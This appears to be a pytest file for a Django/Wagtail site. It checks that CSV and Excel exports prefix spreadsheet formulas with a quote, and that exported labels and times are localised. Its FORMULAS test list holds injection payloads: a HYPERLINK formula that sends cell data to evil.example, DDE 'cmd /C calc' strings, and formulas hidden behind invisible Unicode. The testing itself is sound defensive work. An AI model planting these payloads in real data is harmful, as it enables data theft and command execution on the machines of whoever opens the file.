"""No table that leaves the site holds a cell that a spreadsheet would run."""

import csv
import datetime
import inspect
import io
import re

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.admin.views import mixins
from wagtail.models import ModelLogEntry

import home.roles
from home.models import FeedbackReport, NoticeIndexPage, NoticePage
from home.table_export import (
    csv_blocks,
    csv_response,
    guarded,
    unguarded,
    write_xlsx,
    xlsx_response,
)
from tests.home.factories import make_home, publish

TEXT = st.text(
    alphabet=st.sampled_from("'=+-@＝﹢−\t\r\n \u3000\u200b\u3164\ufeff甲a;,\""), max_size=6
)

# OWASP's characters, and what people found that spreadsheets take as well.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "=\u200b1+1",
    "'=1+1",
    # Invisible characters of every kind, letters without ink, and signs that look like the four.
    *(f"{sign}=1+1" for sign in "\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u180e\u2065\u2800"),
    *(
        f"{sign}=1+1"
        for sign in "\u206a\u206f\u3164\ufe0f\uffa0\ufff9\U000e0020\U000e0100\U0001d173"
    ),
    "\u200b\u3164 \ufe0f=1+1",
    *(f"{sign}1" for sign in "﹢﹣−⁺⁻₊₋⁼₌﹦﹫"),
]
HARMLESS = ["海珠区", "a=b", "2026-11-29", "", "‘=’号", "（+86）", "1-2", "a@b.cn", "第1条：=1"]


@given(TEXT)
def test_guarding_is_undone_exactly(text):
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert guarded(text) == text


@given(st.lists(st.lists(TEXT, min_size=1), max_size=3))
def test_a_csv_is_read_as_it_was_written(rows):
    text = b"".join(csv_blocks(rows)).decode("utf-8-sig")
    found = [[unguarded(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
    assert found == rows


def test_cells_with_separators_of_other_programs_are_quoted():
    assert b"".join(csv_blocks([["a;=1+1", "b\t=1+1", "甲"]])).decode() == (
        '\ufeff"a;=1+1","b\t=1+1",甲\n'
    )


def test_a_csv_that_excel_opens():
    rows = [["名称", "=数"], ["甲,乙", -5], ['"', datetime.date(2026, 1, 2)], [None, "-5"]]
    assert b"".join(csv_blocks(rows)).decode() == (
        '\ufeff名称,\'=数\n"甲,乙",-5\n"""",2026-01-02\n,\'-5\n'
    )


def test_a_workbook_keeps_text_as_text():
    stream = io.BytesIO()
    rows = [["名称", "数"], ["=1+1", 7], ["0123456789012345678901", None], ["坏\x00\x0b字", 1.5]]
    write_xlsx(rows, "表", stream)
    sheet = load_workbook(stream).active
    assert list(sheet.values)[1:] == [("'=1+1", 7), ("0123456789012345678901", None), ("坏字", 1.5)]
    assert sheet["A2"].data_type == "s"


def test_the_name_of_a_download_may_be_chinese():
    for response in (csv_response([], "统计"), xlsx_response([["a"]], "表", "统计")):
        assert "filename*=UTF-8''%E7%BB%9F%E8%AE%A1." in response["Content-Disposition"]


def test_no_view_of_wagtail_goes_round_the_guard():
    """Each view that exports uses the guarded steps of the one mixin."""

    def below(view):
        for each in view.__subclasses__():
            yield each
            yield from below(each)

    guarded_steps = ("preprocess_field_value", "get_heading", "stream_csv")
    other_steps = ("write_csv_row", "generate_xlsx_row", "write_xlsx", "as_spreadsheet")
    views = set(below(mixins.SpreadsheetExportMixin))
    assert len(views) > 20
    for view in views:
        for step in (*guarded_steps, *other_steps):
            assert getattr(view, step) is getattr(mixins.SpreadsheetExportMixin, step), view
    assert all(
        hasattr(getattr(mixins.SpreadsheetExportMixin, s), "__wrapped__") for s in guarded_steps
    )
    assert "preprocess_field_value" in inspect.getsource(
        mixins.SpreadsheetExportMixin.write_csv_row
    )


def cells_of(response, kind) -> list[str]:
    content = b"".join(response.streaming_content)
    if kind == "csv":
        assert content.startswith(b"\xef\xbb\xbf")
        return [
            cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row
        ]
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [str(cell) for row in sheet.values for cell in row if cell is not None]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_the_public_typed_reaches_staff_as_text(admin_client, kind):
    for number, text in enumerate(FORMULAS):
        FeedbackReport.objects.create(number=f"F{number}", kind="other", text=text, path="/")
    url = reverse("wagtailsnippets_home_feedbackreport:list")
    cells = cells_of(admin_client.get(url, {"export": kind}), kind)
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if guarded(cell) != cell and not cell.startswith("'")]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_wagtails_reports_are_guarded(admin_client, admin_user, kind):
    report = FeedbackReport.objects.create(number="F1", kind="other", text="x", path="/")
    ModelLogEntry.objects.log_action(report, "wagtail.edit", user=admin_user, title="=1+1")
    ModelLogEntry.objects.update(label="=HYPERLINK(1)")
    cells = cells_of(
        admin_client.get(reverse("wagtailadmin_reports:site_history"), {"export": kind}), kind
    )
    assert "'=HYPERLINK(1)" in cells


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_codes_are_words_and_times_are_those_of_here(admin_client, kind):
    report = FeedbackReport.objects.create(number="F1", kind="wrong", text="x", path="/")
    evening = datetime.datetime(2026, 11, 29, 20, 16, 8, 144611, tzinfo=datetime.UTC)
    FeedbackReport.objects.update(created_at=evening)
    url = reverse("wagtailsnippets_home_feedbackreport:list")
    cells = cells_of(admin_client.get(url, {"export": kind}), kind)
    assert report.get_kind_display() in cells
    assert report.get_state_display() in cells
    assert "2026-11-30 04:16:08" in cells
    assert not {"wrong", "new"} & set(cells)


@pytest.mark.parametrize("report", ["workflow", "workflow_tasks", "page_types_usage"])
def test_the_reports_of_reviews_and_page_types_are_in_chinese(admin_client, admin_user, report):
    home.roles.set_up_roles()
    admin_user.last_name = "区民政局小王"
    admin_user.save()
    index = publish(make_home(), NoticeIndexPage(slug="notices", title="通知公告"))
    page = publish(index, NoticePage(slug="one", title="放假通知"))
    page.get_workflow().start(page, admin_user)
    url = reverse(f"wagtailadmin_reports:{report}")
    cells = cells_of(admin_client.get(url, {"export": "csv"}), "csv")
    assert not [cell for cell in cells if re.search("[A-Za-z]{2}", cell)], cells
    assert "通知公告" in cells
    assert report == "page_types_usage" or "区民政局小王" in cells
